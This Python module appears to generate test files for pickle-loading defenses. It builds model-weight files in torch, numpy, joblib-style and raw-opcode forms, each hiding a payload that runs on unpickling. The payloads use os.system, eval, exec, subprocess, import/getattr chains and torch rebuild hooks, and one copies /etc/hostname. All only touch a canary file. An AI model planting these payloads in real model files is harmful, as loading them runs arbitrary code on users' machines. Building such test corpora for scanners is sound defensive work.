"""Pickles that would run code, in every shape that a file of weights can have.

A payload writes its canary. Files are made as an attacker would: by pickling, or byte by byte.
"""

from __future__ import annotations

import argparse
import builtins
import io
import os
import pickle
import shutil
import subprocess
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

STATE = {"layer.weight": torch.ones(2)}


class Call:
    """What unpickles by calling a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.arguments

    def __call__(self) -> None:
        """Pickles take nothing for a function that cannot be called; nobody does."""


class Built:
    """What unpickles by giving a harmless object a state that is none."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner

    def __reduce__(self) -> tuple[Any, tuple[Any, ...], dict[str, Any]]:
        return argparse.Namespace, (), {"x": self.inner}


def touching(canary: Path) -> str:
    """Python that writes the canary."""
    return f"open({str(canary)!r}, 'w').close()"


GADGETS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda canary: Call(os.system, f"touch {canary}"),
    "eval": lambda canary: Call(eval, touching(canary)),
    "exec": lambda canary: Call(exec, touching(canary)),
    "open": lambda canary: Call(open, str(canary), "w"),
    "subprocess": lambda canary: Call(subprocess.check_call, ["touch", str(canary)]),
    "popen": lambda canary: Call(subprocess.Popen, ["touch", str(canary)]),
    "argparse opens": lambda canary: Call(Call(argparse.FileType, "w"), str(canary)),
    "copy": lambda canary: Call(shutil.copyfile, "/etc/hostname", str(canary)),
    "getattr": lambda canary: Call(
        Call(getattr, Call(__import__, "posix"), "system"), f"touch {canary}"
    ),
    "import": lambda canary: Call(Call(getattr, Call(__import__, "os"), "mknod"), str(canary)),
    "map": lambda canary: Call(list, Call(map, eval, [touching(canary)])),
    "path": lambda canary: Call(Path.touch, canary),
    "torch save": lambda canary: Call(torch.save, {}, str(canary)),
    "numpy save": lambda canary: Call(np.save, str(canary), 1),
    "numpy file": lambda canary: Call(np.memmap, str(canary), "u1", "w+", 0, (1,)),
    "rebuilt parameter": lambda canary: Call(
        torch._utils._rebuild_parameter, Call(eval, touching(canary)), True, OrderedDict()
    ),
    "rebuilt tensor": lambda canary: Call(
        torch._utils._rebuild_tensor_v2, Call(os.system, f"touch {canary}"), 0, (1,), (1,), False
    ),
    "rebuilt by type": lambda canary: Call(
        torch._tensor._rebuild_from_type_v2, eval, torch.Tensor, (touching(canary),), {}
    ),
    "built": lambda canary: Built(Call(os.system, f"touch {canary}")),
}

PLACES: dict[str, Callable[[Any], Any]] = {
    "a weight": lambda evil: {"weight": evil},
    "the whole": lambda evil: evil,
    "settings": lambda evil: {"model": STATE, "cfg": evil},
    "hyper-parameters": lambda evil: {"state_dict": STATE, "hyper_parameters": {"loss": evil}},
    "an optimizer": lambda evil: {
        "network": STATE,
        "epoch": 1,
        "optimizer": {"state": {0: {"step": 1, "exp_avg": evil}}, "param_groups": []},
    },
    "a pair": lambda evil: (STATE, evil),
    "deep inside": lambda evil: {"model": STATE, "x": [({"y": (evil,)},)]},
    "a name": lambda evil: {**STATE, "name": [evil]},
}


def zipped(content: Any) -> bytes:
    """As torch writes it."""
    return saved(content, True)


def saved(content: Any, new: bool) -> bytes:
    """As torch writes it, in its newer or its older form."""
    file = io.BytesIO()
    torch.save(content, file, _use_new_zipfile_serialization=new)
    return file.getvalue()


def tarred(content: Any) -> bytes:
    """As torch wrote it before 2017."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            part = pickle.dumps(content, protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(part)
            archive.addfile(info, io.BytesIO(part))
    return file.getvalue()


def scripted(content: Any) -> bytes:
    """As torch writes a program; its constants are a pickle of their own."""
    return repacked(content, ("constants.pkl", "code/__torch__.py"))


def repacked(
    content: Any, names: tuple[str, ...] = ("attributes.pkl", "extra/data.pkl", "data.pkl.bak")
) -> bytes:
    """A sound checkpoint with more parts than it needs, each of them a pickle."""
    file = io.BytesIO(saved(STATE, True))
    part = pickle.dumps(content, protocol=2)
    with zipfile.ZipFile(file, "a") as archive:
        root = archive.namelist()[0].split("/")[0]
        for name in names:
            archive.writestr(f"{root}/{name}", part)
    return file.getvalue()


def numpy_objects(content: Any) -> bytes:
    """An array of objects, as numpy pickles it."""
    file = io.BytesIO()
    values = np.empty(1, dtype=object)
    values[0] = content
    np.save(file, values, allow_pickle=True)
    return file.getvalue()


def numpy_archive(content: Any) -> bytes:
    """An archive of arrays, one of them of objects."""
    file = io.BytesIO()
    values = np.empty(1, dtype=object)
    values[0] = content
    np.savez(file, values=values, allow_pickle=True)
    return file.getvalue()


SHAPES: dict[str, Callable[[Any], bytes]] = {
    "torch": zipped,
    "older torch": lambda content: saved(content, False),
    "oldest torch": tarred,
    "pickle 0": lambda content: pickle.dumps(content, protocol=0),
    "pickle 2": lambda content: pickle.dumps(content, protocol=2),
    "pickle 5": lambda content: pickle.dumps(content, protocol=5),
    "joblib": lambda content: zlib.compress(pickle.dumps(content)),
    "npy": numpy_objects,
    "npz": numpy_archive,
    "script": scripted,
    "another part": repacked,
}


def by_persistent_id(canary: Path) -> bytes:
    """A pickle whose storage is named by something that would run."""

    class Pickler(pickle.Pickler):
        def persistent_id(self, value: Any) -> Any:
            inner = Call(eval, touching(canary))
            return ("storage", inner, "0", "cpu", 1) if value is place else None

    file, place = io.BytesIO(), ["storage"]
    Pickler(file, protocol=2).dump({"weight": place})
    return file.getvalue()


def by_opcodes(canary: Path) -> dict[str, bytes]:
    """Pickles that no pickler writes: by instance, by class, by name on the stack, by extension."""
    text = touching(canary).encode()
    return {
        "INST": b"(S" + repr(text.decode()).encode() + b"\nibuiltins\neval\n.",
        "OBJ": b"\x80\x02(cbuiltins\neval\nX" + len(text).to_bytes(4, "little") + text + b"o.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c"
        + bytes([len(text)])
        + text
        + b"\x85R.",
        "GLOBAL of parts": b"\x80\x04cbuiltins\neval.__call__\n\x8c"
        + bytes([len(text)])
        + text
        + b"\x85R.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\neval\n\x8c" + bytes([len(text)]) + text + b"\x85}\x92.",
        "EXT1": b"\x80\x02\x82\x01(tR.",
    }


assert builtins.eval is eval  # The payloads name it; nobody has put another in its place.
